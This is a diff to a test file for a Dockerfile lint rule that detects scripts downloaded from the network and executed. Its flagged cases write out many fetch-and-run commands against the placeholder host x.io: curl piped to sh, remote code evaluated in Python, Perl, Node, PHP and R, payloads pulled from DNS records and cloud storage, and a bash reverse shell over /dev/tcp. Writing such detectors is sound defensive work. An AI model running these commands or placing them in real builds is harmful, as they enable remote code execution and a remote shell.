@@ -5,6 +5,20 @@ const run = (script: string): string => `FROM debian:13\nRUN ${script}\n`;
 
 testRule(remoteScriptExecuted, {
   valid: {
+    'a port that is only tried, by the shell itself': run(
+      "bash -c '</dev/tcp/db/5432'; timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'; exec 3<>/dev/tcp/x.io/80; grep -q OK <&3",
+    ),
+    'a connection to the container itself': "FROM a\nHEALTHCHECK CMD bash -c 'exec 3<>/dev/tcp/localhost/80; sh <&3'\n",
+    'a here-document that loads data':
+      'FROM a\nRUN python3 <<EOF\nimport urllib.request as u, json\nprint(json.load(u.urlopen("https://x.io/a.json")))\nEOF\n',
+    'options in a variable of several words':
+      'FROM a\nARG OPTS="-y --no-install-recommends"\nARG GET="curl -fsSLO"\nRUN apt-get install $OPTS curl && $GET https://x.io/a.tgz\n',
+    'names and stores that are only asked': run(
+      'dig +short TXT x.io | grep v=spf1; gsutil cat gs://x/a.json | jq .; ssh x.io true; gh api user | jq .',
+    ),
+    'what is sourced from a file': run(
+      '. /etc/os-release; source ./env.sh; trap "rm -f /tmp/x" EXIT; $(command -v sh) ./x.sh; deno run ./main.ts',
+    ),
     'a file that a later instruction checks before it runs':
       'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN echo "abc  /tmp/x" | sha256sum -c - && sh /tmp/x\n',
     'a file that an instruction in between checks': 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN sha256sum -c /sums\nRUN sh /tmp/x\n',
@@ -54,6 +68,49 @@ testRule(remoteScriptExecuted, {
       '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN Invoke-WebRequest https://x.io/a.zip -OutFile a.zip; iex "dir"\nRUN iwr https://x.io/a.ps1 -OutFile a.ps1; del a.ps1; ./b.ps1\nRUN iwr https://x.io/a.ps1 -OutFile a.ps1; if ((Get-FileHash a.ps1).Hash -ne $h) { exit 1 }; ./a.ps1\n',
   },
   invalid: {
+    'a program in a variable of the build': {
+      text: 'FROM a\nARG C="curl -fsSL https://x.io/i.sh"\nENV D="wget -qO-"\nRUN ⟦$C | sh⟧\nRUN ⟦${D} https://x.io/j.sh | bash⟧\n',
+      expect: ['piped', 'piped'],
+    },
+    'a script in a variable of the build': {
+      text: 'FROM a\nARG C="curl -fsSL https://x.io/i.sh | sh"\nRUN eval ⟦"$C"⟧\nRUN sh -c ⟦"${C}"⟧\nRUN S="wget -qO- https://x.io/j | sh"; bash -c ⟦$S⟧\n',
+      expect: ['piped', 'piped', 'piped'],
+    },
+    'here-documents of other interpreters': {
+      text: `FROM a\nRUN ⟦<<EOF python3⟧\nimport urllib.request as u\nexec(u.urlopen("https://x.io/a").read())\nEOF\nRUN ⟦perl <<'EOF'⟧\nuse LWP::Simple; eval get("https://x.io/b");\nEOF\nRUN ⟦<<EOF⟧\n#!/usr/bin/env -S node\nfetch("https://x.io/c").then(r => r.text()).then(eval)\nEOF\n`,
+      expect: ['piped', 'piped', 'piped'],
+    },
+    'connections that the shell opens': {
+      text: 'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN ⟦sh < /dev/tcp/x.io/80⟧\nRUN ⟦cat </dev/tcp/x.io/80 | bash⟧\nRUN ⟦exec 3<>/dev/tcp/x.io/80; echo GET / >&3; cat <&3 | sh⟧\nRUN ⟦bash -i >& /dev/tcp/x.io/80 0>&1⟧\n',
+      expect: ['piped', 'piped', 'piped', 'piped'],
+    },
+    'printed by a program text into a shell': {
+      text: `FROM a\nRUN python3 -c ⟦"import urllib.request as u; print(u.urlopen('https://x.io/a').read().decode())"⟧ | sh\n`,
+      expect: ['piped'],
+    },
+    'included by an address': {
+      text: `FROM a\nRUN php -r ⟦'include "https://x.io/a";'⟧\nRUN Rscript -e ⟦'source("https://x.io/b")'⟧\nRUN ⟦deno run -A https://x.io/c.ts⟧\n`,
+      expect: ['piped', 'piped', 'piped'],
+    },
+    'kept in a variable that is exported or printed into': {
+      text: run('export S="$(curl https://x.io/a)" && ⟦sh -c "$S"⟧; printf -v T %s "$(curl https://x.io/b)"; ⟦eval "$T"⟧'),
+      expect: ['piped', 'piped'],
+    },
+    'in the place of a command': {
+      text: run('⟦$(curl -fsSL https://x.io/a)⟧ && ⟦`wget -qO- https://x.io/b` now⟧'),
+      expect: ['piped', 'piped'],
+    },
+    'what is sourced from standard input': {
+      text: run('⟦. /dev/stdin <<< "$(curl https://x.io/a)"⟧; ⟦curl https://x.io/b | . /dev/fd/0⟧; ⟦curl https://x.io/c | fish⟧'),
+      expect: ['piped', 'piped', 'piped'],
+    },
+    'when the shell ends': { text: run('trap "⟦curl https://x.io/a | sh⟧" EXIT'), expect: ['piped'] },
+    'from names, other machines and stores': {
+      text: run(
+        '⟦dig +short TXT x.io | sh⟧; ⟦ssh root@x.io cat x | bash⟧; ⟦aws s3 cp s3://x/i - | sh⟧; ⟦gsutil cat gs://x/i | sh⟧; ⟦gh api repos/o/r/contents/x | sh⟧',
+      ),
+      expect: ['piped', 'piped', 'piped', 'piped', 'piped'],
+    },
     'loaded by one instruction and run by another': {
       text: 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN true && ⟦sh /tmp/x --yes⟧ && sh /tmp/x\nRUN sh /tmp/x\n',
       expect: [
